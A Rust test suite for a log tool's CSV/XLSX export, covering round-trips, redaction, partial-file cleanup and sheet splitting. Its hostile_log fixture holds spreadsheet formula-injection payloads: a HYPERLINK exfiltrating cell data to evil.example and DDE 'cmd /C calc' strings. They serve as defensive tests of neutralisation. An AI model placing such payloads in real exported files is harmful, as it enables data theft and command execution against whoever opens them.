//! `logx export`: what CSV and XLSX exports contain, read back with real readers (the csv
//! crate, calamine), equals what `cat -o json` gives for the same query, row for row; and the
//! safety rules: no formula, no partial file.

use std::path::Path;

use calamine::{Data, Reader};
use serde_json::Value;

use crate::util::{fixture, json_lines, root, run, run_stdin, tempdir};

/// The documented spreadsheet rule, written independently of logx: a leading `=`, `+`, `-`,
/// `@`, tab or carriage return gets a single quote in front; control characters other than
/// newline and tab become `\xNN` (or `\u{NNNN}` for bidi controls).
fn safe(s: &str) -> String {
    let mut out = String::new();
    if matches!(s.chars().next(), Some('=' | '+' | '-' | '@' | '\t' | '\r')) {
        out.push('\'');
    }
    for c in s.chars() {
        let u = c as u32;
        if c == '\n' || c == '\t' {
            out.push(c);
        } else if c == '\r' {
            out.push_str("\\r");
        } else if u < 0x20 || u == 0x7f || (0x80..=0x9f).contains(&u) {
            out.push_str(&format!("\\x{u:02x}"));
        } else if matches!(u, 0x200e | 0x200f | 0x061c | 0x202a..=0x202e | 0x2066..=0x2069) {
            out.push_str(&format!("\\u{{{u:04x}}}"));
        } else {
            out.push(c);
        }
    }
    out
}

const COLUMNS: [&str; 8] = ["time", "level", "host", "service", "user", "ip", "request_id", "message"];

fn json_cell(e: &Value, col: &str) -> String {
    let key = match col {
        "time" => "ts",
        "message" => "msg",
        other => other,
    };
    safe(e[key].as_str().unwrap_or(""))
}

pub(crate) fn csv_matches_json(args: &[&str]) {
    let mut a = vec!["export", "--csv"];
    a.extend_from_slice(args);
    let r = run(&a);
    assert!(r.code == 0 || r.code == 1, "{}", r.stderr);
    let mut rdr = csv::Reader::from_reader(r.stdout.as_bytes());
    let headers: Vec<String> = rdr.headers().unwrap().iter().map(String::from).collect();
    assert_eq!(headers, COLUMNS);
    let rows: Vec<csv::StringRecord> = rdr.records().map(|r| r.unwrap()).collect();
    // The same query for `cat` (`--all` is export's own flag).
    let mut j = vec!["cat", "-o", "json"];
    j.extend(args.iter().filter(|a| **a != "--all"));
    let es = json_lines(&run(&j).stdout);
    assert_eq!(rows.len(), es.len(), "{args:?}: rows");
    for (row, e) in rows.iter().zip(&es) {
        for (i, col) in COLUMNS.iter().enumerate() {
            assert_eq!(&row[i], json_cell(e, col), "{args:?}: {col} of {e}");
        }
    }
}

fn xlsx_matches_json(args: &[&str]) {
    let dir = tempdir();
    let out = dir.path().join("x.xlsx");
    let mut a = vec!["export", "-o", out.to_str().unwrap()];
    a.extend_from_slice(args);
    let r = run(&a);
    assert!(r.code == 0 || r.code == 1, "{}", r.stderr);
    let mut wb: calamine::Xlsx<_> = calamine::open_workbook(&out).expect("a workbook");
    let range = wb.worksheet_range("entries").expect("sheet 'entries'");
    // The same query for `cat` (`--all` is export's own flag).
    let mut j = vec!["cat", "-o", "json"];
    j.extend(args.iter().filter(|a| **a != "--all"));
    let es = json_lines(&run(&j).stdout);
    let rows: Vec<&[Data]> = range.rows().collect();
    assert_eq!(rows.len(), es.len() + 1, "{args:?}: header and rows");
    for (i, col) in COLUMNS.iter().enumerate() {
        assert_eq!(rows[0][i], Data::String(col.to_string()));
    }
    for (row, e) in rows[1..].iter().zip(&es) {
        // A real date-time cell, in the display zone (UTC here), to the millisecond.
        match (&row[0], e["ts"].as_str()) {
            (Data::DateTime(dt), Some(ts)) => {
                let got = ((dt.as_f64() - 25_569.0) * 86_400_000.0).round() as i64;
                let want = chrono::DateTime::parse_from_rfc3339(ts).unwrap().timestamp_millis();
                assert!((got - want).abs() <= 1, "{ts}: {dt:?}");
            }
            (Data::Empty, None) => {}
            (other, ts) => panic!("time cell {other:?} for {ts:?}"),
        }
        for (i, col) in COLUMNS.iter().enumerate().skip(1) {
            let want = json_cell(e, col);
            let got = match &row[i] {
                Data::String(s) => s.clone(),
                Data::Empty => String::new(),
                other => panic!("{col}: not a string: {other:?}"),
            };
            // Excel cells hold at most 32,767 characters.
            assert_eq!(got, want, "{args:?}: {col}");
        }
    }
    let formulas = wb.worksheet_formula("entries").expect("formulas");
    assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "no formula in an export");
}

#[test]
fn csv_round_trip_on_fixtures() {
    for f in ["cells", "app.log", "directus.json", "access.log", "syslog"] {
        csv_matches_json(&["--all", fixture(f).to_str().unwrap()]);
    }
    csv_matches_json(&["--level", "warn", "--service", "pydio.grpc.*", fixture("cells").to_str().unwrap()]);
}

#[test]
fn xlsx_round_trip_on_fixtures() {
    for f in ["cells", "app.log", "access.log"] {
        xlsx_matches_json(&["--all", fixture(f).to_str().unwrap()]);
    }
}

#[test]
fn round_trips_on_real_logs() {
    let corpus = need_corpus!();
    for f in [
        "lnav/logfile_json.json",
        "lnav/logfile_java.0",
        "lnav/logfile_mixed_json2.json",
        "loghub/OpenSSH_2k.log",
        "lnav/logfile_docker_compose.0",
    ] {
        let p = corpus.join(f);
        csv_matches_json(&["--all", p.to_str().unwrap()]);
        xlsx_matches_json(&["--all", p.to_str().unwrap()]);
    }
}

/// Every format that gen_corpus.py writes (4 MiB each, rotated sets with gzip included): the
/// whole of it as CSV, and a filtered part as XLSX, row for row against `cat -o json`.
#[test]
fn round_trips_on_the_generated_corpus() {
    let Some(dir) = crate::query::generated() else {
        eprintln!("skipped: ../shared/tools/gen_corpus.py is absent (or python3 is)");
        return;
    };
    for f in ["cells.json", "directus.json", "app.log", "app.logfmt", "access.log", "syslog", "rotated", "rotated-json"]
    {
        let p = dir.join(f);
        let p = p.to_str().unwrap();
        csv_matches_json(&["--all", p]);
        xlsx_matches_json(&["--level", "warn", p]);
        // Not an empty comparison.
        let rows = crate::util::run(&["export", "--level", "warn", "--csv", p]).stdout.lines().count();
        assert!(rows > 1000, "{f}: {rows} rows");
    }
}

#[test]
fn refuses_without_a_filter() {
    let r = run(&["export", "--csv", fixture("app.log").to_str().unwrap()]);
    assert_eq!(r.code, 2);
    assert!(r.stderr.contains("export needs a filter or a period") && r.stderr.contains("--all"), "{}", r.stderr);
    assert_eq!(r.stdout, "");
    let r = run(&["export", "--all", fixture("app.log").to_str().unwrap()]);
    assert_eq!(r.code, 2);
    assert!(r.stderr.contains("choose a format"), "{}", r.stderr);
}

fn hostile_log(dir: &Path) -> std::path::PathBuf {
    let p = dir.join("hostile.json");
    let mut s = String::new();
    let msgs = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\tTab first",
        "\rCarriage first",
        "multi\nline, with \"quotes\" and, commas",
        "escape \u{1b}[31mred\u{1b}[0m and bell \u{7}",
    ];
    for (i, m) in msgs.iter().enumerate() {
        let line = serde_json::json!({"ts": format!("2026-11-21T10:00:0{i}Z"), "level": "info", "msg": m, "user": format!("=user{i}")});
        s.push_str(&line.to_string());
        s.push('\n');
    }
    std::fs::write(&p, s).unwrap();
    p
}

#[test]
fn formulas_are_neutralised() {
    let dir = tempdir();
    let p = hostile_log(dir.path());
    let r = run(&["export", "--all", "--csv", p.to_str().unwrap()]);
    let mut rdr = csv::Reader::from_reader(r.stdout.as_bytes());
    let rows: Vec<csv::StringRecord> = rdr.records().map(|r| r.unwrap()).collect();
    assert_eq!(rows.len(), 8);
    for row in &rows[..6] {
        assert!(row[7].starts_with('\''), "message cell {:?}", &row[7]);
        assert!(row[4].starts_with("'=user"), "user cell {:?}", &row[4]);
    }
    assert_eq!(&rows[6][7], "multi\nline, with \"quotes\" and, commas");
    assert_eq!(&rows[7][7], "escape \\x1b[31mred\\x1b[0m and bell \\x07");
    assert!(!r.stdout.contains('\u{1b}'));
    xlsx_matches_json(&["--all", p.to_str().unwrap()]);
}

#[test]
fn invalid_utf8_is_lossy_in_csv() {
    let dir = tempdir();
    let p = dir.path().join("latin1.log");
    std::fs::write(&p, b"2026-11-21 10:00:00 INFO caf\xe9\n").unwrap();
    let r = run(&["export", "--all", "--csv", p.to_str().unwrap()]);
    assert!(r.stdout.contains("caf\u{fffd}"), "{}", r.stdout);
}

#[test]
fn columns_fields_json_and_redaction() {
    let f = fixture("cells");
    let r = run(&[
        "export",
        "--all",
        "--csv",
        "--columns",
        "ts,level,msg,fields.path,user",
        "--fields-json",
        f.to_str().unwrap(),
    ]);
    let mut rdr = csv::Reader::from_reader(r.stdout.as_bytes());
    assert_eq!(
        rdr.headers().unwrap().iter().collect::<Vec<_>>(),
        ["ts", "level", "msg", "fields.path", "user", "fields"]
    );
    let es = crate::util::entries(&[&f]);
    for (row, e) in rdr.records().map(|r| r.unwrap()).zip(&es) {
        assert_eq!(&row[3], e["fields"]["path"].as_str().unwrap_or(""));
        let rest: Value = serde_json::from_str(&row[5]).expect("the fields column is JSON");
        assert!(rest.get("path").is_none(), "a field shown in its own column is not repeated");
        assert_eq!(rest["SpanUuid"], e["fields"]["SpanUuid"]);
    }
    let r = run(&["export", "--all", "--csv", "--redact", "user,ip", f.to_str().unwrap()]);
    let mut rdr = csv::Reader::from_reader(r.stdout.as_bytes());
    let rows: Vec<csv::StringRecord> = rdr.records().map(|r| r.unwrap()).collect();
    let mut map = std::collections::HashMap::new();
    for (row, e) in rows.iter().zip(&es) {
        if let Some(u) = e["user"].as_str() {
            assert!(row[4].starts_with("user-") && !row[4].contains(u), "{:?}", &row[4]);
            // One user, one token: grouping still works.
            assert_eq!(map.entry(u.to_string()).or_insert_with(|| row[4].to_string()), &row[4]);
            assert!(!row[7].contains(&format!("/{u}/")), "the message does not leak the user: {:?}", &row[7]);
        }
        if e["ip"].is_string() {
            assert!(row[5].starts_with("ip-"));
        }
    }
    assert!(map.len() > 1);
}

#[test]
fn stdin_and_ndjson_and_file_extension() {
    let dir = tempdir();
    let data = std::fs::read(fixture("directus.json")).unwrap();
    let r = run_stdin(&["export", "--ndjson", "--level", "error"], &data);
    let es = json_lines(&r.stdout);
    assert!(!es.is_empty() && es.iter().all(|e| e["level"] == "error"));
    let out = dir.path().join("errors.csv");
    let r =
        run(&["export", "--level", "error", "-o", out.to_str().unwrap(), fixture("directus.json").to_str().unwrap()]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let text = std::fs::read_to_string(&out).unwrap();
    assert!(text.starts_with("\u{feff}time,level,"), "a CSV file starts with a byte-order mark for spreadsheets");
    let mut rdr = csv::Reader::from_path(&out).unwrap();
    assert_eq!(rdr.records().count(), es.len());
}

fn leftovers(dir: &Path) -> Vec<String> {
    std::fs::read_dir(dir).unwrap().map(|e| e.unwrap().file_name().to_string_lossy().into_owned()).collect()
}

#[test]
fn a_failed_export_leaves_nothing_behind() {
    let dir = tempdir();
    let out = dir.path().join("out.xlsx");
    let r = run(&[
        "export",
        "--all",
        "--max-rows",
        "10",
        "-o",
        out.to_str().unwrap(),
        fixture("app.log").to_str().unwrap(),
    ]);
    assert_eq!(r.code, 2);
    assert!(r.stderr.contains("more than 10 rows") && r.stderr.contains("no file was written"), "{}", r.stderr);
    assert!(leftovers(dir.path()).is_empty(), "{:?}", leftovers(dir.path()));
    // A write that fails (a file size limit standing in for a full disk).
    let out = dir.path().join("out.csv");
    let script = format!(
        "ulimit -f 8; trap '' XFSZ; exec '{}' export --all -o '{}' '{}'",
        env!("CARGO_BIN_EXE_logx"),
        out.display(),
        root().join("fixtures/cells").display()
    );
    let o = std::process::Command::new("sh").arg("-c").arg(&script).env("TZ", "UTC").output().unwrap();
    let err = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(2), "{err}");
    assert!(err.contains("no file was written"), "{err}");
    assert!(leftovers(dir.path()).is_empty(), "{:?}", leftovers(dir.path()));
}

#[test]
fn sheet_split_past_excel_row_limit() {
    let dir = tempdir();
    let p = dir.path().join("many.log");
    // 1,050,000 entries: one more sheet past Excel's 1,048,575 data rows.
    let mut s = String::with_capacity(40 * 1_050_000);
    for i in 0..1_050_000u64 {
        s.push_str(&format!("2026-11-21 10:{:02}:{:02} INFO n{i}\n", (i / 60) % 60, i % 60));
    }
    std::fs::write(&p, s).unwrap();
    let out = dir.path().join("many.xlsx");
    let r = run(&["export", "--all", "--columns", "level,msg", "-o", out.to_str().unwrap(), p.to_str().unwrap()]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let mut wb: calamine::Xlsx<_> = calamine::open_workbook(&out).unwrap();
    assert_eq!(wb.sheet_names(), ["entries", "entries 2"]);
    let first = wb.worksheet_range("entries").unwrap();
    let second = wb.worksheet_range("entries 2").unwrap();
    assert_eq!(first.height(), 1_048_576);
    assert_eq!(second.height(), 1_050_000 - 1_048_575 + 1);
    assert_eq!(second.get((1, 1)), Some(&Data::String("n1048575".into())));
}

#[test]
fn an_interrupted_export_leaves_nothing_behind() {
    let dir = tempdir();
    let fifo = dir.path().join("live.log");
    let c = std::ffi::CString::new(fifo.to_str().unwrap()).unwrap();
    // SAFETY: mkfifo with a valid path.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o644) }, 0);
    let out = dir.path().join("live.csv");
    let mut child = crate::util::logx()
        .args(["export", "--all", "-o", out.to_str().unwrap(), fifo.to_str().unwrap()])
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    // Keep a writer open: the export waits for more.
    let mut w = std::fs::OpenOptions::new().write(true).open(&fifo).unwrap();
    use std::io::Write;
    for i in 0..1000 {
        writeln!(w, "2026-11-21 10:00:00 INFO line {i}").unwrap();
    }
    std::thread::sleep(std::time::Duration::from_millis(500));
    // SAFETY: signalling our own child.
    unsafe { libc::kill(child.id() as i32, libc::SIGINT) };
    let status = child.wait().unwrap();
    drop(w);
    let mut err = String::new();
    std::io::Read::read_to_string(&mut child.stderr.take().unwrap(), &mut err).unwrap();
    assert_eq!(status.code(), Some(2), "{err}");
    assert!(err.contains("interrupted: no file was written"), "{err}");
    let left: Vec<String> = leftovers(dir.path()).into_iter().filter(|n| n != "live.log").collect();
    assert!(left.is_empty(), "{left:?}");
}
